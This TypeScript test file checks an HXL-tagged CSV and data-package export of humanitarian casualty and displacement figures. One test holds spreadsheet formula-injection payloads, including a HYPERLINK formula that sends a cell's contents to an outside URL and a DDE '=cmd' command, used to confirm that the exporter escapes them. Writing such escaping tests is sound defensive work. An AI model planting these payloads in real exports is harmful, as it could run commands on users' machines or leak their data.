import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { Ajv } from "ajv";
import { parse } from "csv-parse/sync";
import { beforeAll, expect, test } from "vitest";
import { rearm } from "../../src/exports/csv.ts";
import { COLUMNS, exportHxl, exportHxlPackage } from "../../src/exports/hxl.ts";
import type { Store } from "../../src/store/store.ts";
import { incoming } from "../store/readings.ts";
import { DATA_PACKAGE_PROFILE } from "./data-package-profile.ts";
import { collect, examples, outgoing, recordOf } from "./record.ts";

interface Field {
  readonly name: string;
  readonly type: string;
  readonly hxl: string;
  readonly constraints?: { readonly required?: boolean; readonly enum?: readonly string[] };
}

interface Descriptor {
  readonly resources: readonly {
    readonly path: string;
    readonly bytes: number;
    readonly hash: string;
    readonly schema: { readonly fields: readonly Field[]; readonly primaryKey: readonly string[] };
  }[];
}

let store: Store;
let csv: string;
beforeAll(async () => {
  store = await recordOf(await examples());
  csv = (await collect(exportHxl(await outgoing(store)))).text;
});

const rowsOf = (text: string): string[][] => parse(text, { relax_column_count: false, record_delimiter: "\r\n" });

async function packageOf(of: Store): Promise<{ readonly csv: string; readonly descriptor: Descriptor }> {
  const files = { "figures.csv": "", "datapackage.json": "" };
  for await (const { file, chunk } of exportHxlPackage(await outgoing(of))) files[file] += chunk;
  return { csv: files["figures.csv"], descriptor: JSON.parse(files["datapackage.json"]) as Descriptor };
}

test("a header row, a row of HXL hashtags, and a row for each figure", async () => {
  const [header, hashtags, ...rows] = rowsOf(csv);
  expect(new Set(header).size).toBe(header!.length);
  // HXL 1.1, tagging conventions, section 3: hashtag, then attributes
  for (const hashtag of hashtags!) expect(hashtag).toMatch(/^#[a-z][a-z0-9_]*(\+[a-z][a-z0-9_]*)*$/);
  expect(new Set(hashtags).size).toBe(hashtags!.length);
  for (const core of ["#date+reported", "#date+start", "#affected+killed", "#affected+displaced", "#meta+source", "#meta+url"]) {
    expect(hashtags).toContain(core);
  }
  const { items } = await (await outgoing(store)).view.figures({ limit: 1000 });
  expect(rows).toHaveLength(items.length);
  expect(rows.length).toBeGreaterThan(40);
});

test("a figure stands in the column of its measure, as its issuer gave it", async () => {
  const [header, , ...rows] = rowsOf(csv);
  const named = rows.map((row) => Object.fromEntries(row.map((cell, at) => [header![at]!, rearm(cell)])));
  const { items } = await (await outgoing(store)).view.figures({ limit: 1000, order: "oldest" });
  for (const [at, figure] of items.entries()) {
    const row = named[at]!;
    expect(row).toMatchObject({ id: figure.id, report: figure.report.id, measure: figure.measure, phrase: figure.phrase });
    expect(row[figure.measure]).toBe(figure.value === null ? "" : String(figure.value));
    expect(row.issuer).toBe(figure.issuer?.name ?? "");
    expect(row.caveat).toBe(figure.caveat?.exact ?? "");
    expect(row.hedges).toBe(figure.hedges.map(({ exact }) => exact).join(" | "));
    const filled = ["killed", "injured", "abducted", "detained", "released", "missing", "displaced", "affected", "population"];
    expect(filled.filter((measure) => row[measure] !== "").every((measure) => measure === figure.measure)).toBe(true);
  }
  expect(named.some(({ caveat }) => caveat !== "")).toBe(true);
});

test("the descriptor is a data package, and the table is what it says", async () => {
  const { csv: table, descriptor } = await packageOf(store);
  expect(table).toBe(csv);
  const validate = new Ajv().compile(DATA_PACKAGE_PROFILE);
  expect(validate(descriptor), JSON.stringify(validate.errors)).toBe(true);
  const [resource] = descriptor.resources;
  expect(resource).toMatchObject({
    path: "figures.csv",
    bytes: Buffer.byteLength(csv),
    hash: `sha256:${createHash("sha256").update(csv).digest("hex")}`,
  });
  const { fields, primaryKey } = resource!.schema;
  const [header, hashtags, ...rows] = rowsOf(csv);
  expect(fields.map(({ name }) => name)).toEqual(header);
  expect(fields.map(({ hxl }) => hxl)).toEqual(hashtags);
  const TYPES: Record<string, RegExp> = {
    string: /^/,
    number: /^\d+(\.\d+)?$/,
    date: /^\d{4}-\d\d-\d\d$/,
    datetime: /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/,
  };
  for (const row of rows) {
    for (const [at, { type, constraints }] of fields.entries()) {
      const cell = row[at]!;
      if (constraints?.required) expect(cell).not.toBe("");
      if (cell === "") continue;
      expect(cell).toMatch(TYPES[type]!);
      if (constraints?.enum !== undefined) expect(constraints.enum).toContain(cell);
    }
  }
  const keys = rows.map((row) => primaryKey.map((name) => row[header!.indexOf(name)]).join(" "));
  expect(new Set(keys).size).toBe(rows.length);
});

test("no cell runs as a formula", async () => {
  const told = {
    text: '=HYPERLINK("https://example.org/?"&A1) killed 5 people, +1 said @SUM(1).',
    publisher: "=cmd|'/c calc'!A0",
    figures: [{ measure: "killed", value: 5, place: "@SUM(1)", issuer: "+1", says: "5 people" }],
  } as const;
  const { text } = await collect(exportHxl(await outgoing(await recordOf([incoming(told)]))));
  const [header, , row] = rowsOf(text);
  for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  const of = (name: string) => row![header!.indexOf(name)];
  expect([of("publisher"), of("place"), of("issuer"), of("killed")]).toEqual(["'=cmd|'/c calc'!A0", "'@SUM(1)", "'+1", "5"]);
});

test("docs/exports.md tells of every column", () => {
  const doc = readFileSync("docs/exports.md", "utf8");
  for (const { name, hashtag, type, description } of COLUMNS)
    expect(doc).toContain(`| \`${name}\` | \`${hashtag}\` | ${type} | ${description}`);
});
